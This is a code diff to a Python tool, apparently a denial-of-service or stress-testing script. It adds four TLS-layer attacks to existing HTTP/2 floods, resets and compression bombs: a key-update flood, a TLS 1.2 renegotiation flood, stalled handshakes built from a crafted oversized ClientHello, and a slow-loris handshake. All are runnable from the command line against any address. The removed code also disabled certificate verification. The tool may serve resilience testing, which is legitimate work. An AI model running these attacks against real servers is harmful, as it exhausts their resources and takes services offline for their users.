@@ -13,11 +13,12 @@ import os
 import random
 import select
 import socket
-import ssl
 import struct
 import sys
 import time
 import zlib
+
+import tls_client
 
 DATA, HEADERS, PRIORITY, RST, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
 END_STREAM, END_HEADERS = 1, 4
@@ -68,38 +69,9 @@ def message(data, compressed=0):
     return bytes((compressed,)) + struct.pack(">I", len(data)) + data
 
 
-class TlsSocket(ssl.SSLSocket):
-    """One that says as other sockets do when it has to wait."""
-
-    def send(self, data, flags=0):
-        try:
-            return super().send(data, flags)
-        except (ssl.SSLWantReadError, ssl.SSLWantWriteError) as error:
-            raise BlockingIOError from error
-
-    def recv(self, buflen=1024, flags=0):
-        try:
-            return super().recv(buflen, flags)
-        except (ssl.SSLWantReadError, ssl.SSLWantWriteError) as error:
-            raise BlockingIOError from error
-
-
-def client_context():
-    """Trusts whomever it meets."""
-    made = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
-    made.check_hostname, made.verify_mode, made.sslsocket_class = False, ssl.CERT_NONE, TlsSocket
-    made.set_alpn_protocols(["h2"])
-    return made
-
-
-CONTEXT = client_context()
-
-
 def connect(address):
     if address.startswith("tls:"):
-        made = CONTEXT.wrap_socket(connect(address[len("tls:"):]), do_handshake_on_connect=False)
-        made.settimeout(5)
-        made.do_handshake()
+        made = tls_client.wrap(connect(address[len("tls:"):]))
     elif address.startswith("unix:"):
         made = socket.socket(socket.AF_UNIX)
         made.settimeout(5)
@@ -320,6 +292,42 @@ def never_read(address, seconds, data):
     return flood(address, seconds, chunk, opening=GREEDY, reads=False)
 
 
+def key_updates(address, seconds):
+    """Asks for new keys all the time, and takes no answer."""
+    sessions, asked, made, end = [], 0, 0, time.monotonic() + seconds
+    while time.monotonic() < end:
+        while len(sessions) < CONNECTIONS:
+            with contextlib.suppress(OSError):
+                sessions.append(tls_client.Session(connect(address)))
+                made += 1
+        for session in list(sessions):
+            try:
+                asked += session.update_keys(100)
+            except OSError:
+                session.close()
+                sessions.remove(session)
+    for session in sessions:
+        session.close()
+    return {"key updates": asked, "connections": made}
+
+
+def renegotiations(address, seconds, connections=100):
+    """Sessions of TLS 1.2 that each ask for another handshake, and wait for it."""
+    sessions, made, end = [], 0, time.monotonic() + seconds
+    while time.monotonic() < end:
+        with contextlib.suppress(OSError):
+            sessions.append(tls_client.Session(connect(address), tls_client.TLS1_2))
+            sessions[-1].renegotiate()
+            made += 1
+        if len(sessions) > connections:
+            sessions.pop(0).close()
+    for session in sessions:
+        session.close()
+    return {"renegotiations": made}
+
+
+# A record of a handshake that never comes to its end, and nearly fills what it promises.
+HELLO = b"\x16\x03\x01\x40\x00\x01\x00\x3f\xfc\x03\x03" + bytes(16000)
 SESSION = OPENING + frame(HEADERS, END_HEADERS, 1, request(HEALTH)) + frame(DATA, END_STREAM, 1, message(b""))
 OTHERS = {
     "connects and resets": lambda address, seconds, data: resets(address, seconds),
@@ -332,6 +340,13 @@ OTHERS = {
     "compressed bomb": lambda address, seconds, data: bomb(address, seconds),
     "streams never read": never_read,
 }
+# On the socket below TLS, whatever the address speaks.
+BELOW_TLS = {
+    "key updates": lambda address, seconds, data: key_updates(address, seconds),
+    "renegotiations": lambda address, seconds, data: renegotiations(address, seconds),
+    "handshakes that stall": lambda address, seconds, data: held(address, seconds, HELLO),
+    "slow-loris handshake": lambda address, seconds, data: slow(address, seconds, HELLO),
+}
 
 
 def attack(name, address, seconds, data=b""):
@@ -339,11 +354,11 @@ def attack(name, address, seconds, data=b""):
     if name in FLOODS:
         chunk, more = FLOODS[name]
         return flood(address, seconds, chunk, **more)
-    return OTHERS[name](address, seconds, data)
+    return {**OTHERS, **BELOW_TLS}[name](address, seconds, data)
 
 
 if __name__ == "__main__":
     if sys.argv[1:] == ["--list"]:
-        print("\n".join((*FLOODS, *OTHERS)))
+        print("\n".join((*FLOODS, *OTHERS, *BELOW_TLS)))
     else:
         print(json.dumps(attack(sys.argv[1], sys.argv[2], float(sys.argv[3]), bytes.fromhex("".join(sys.argv[4:])))))
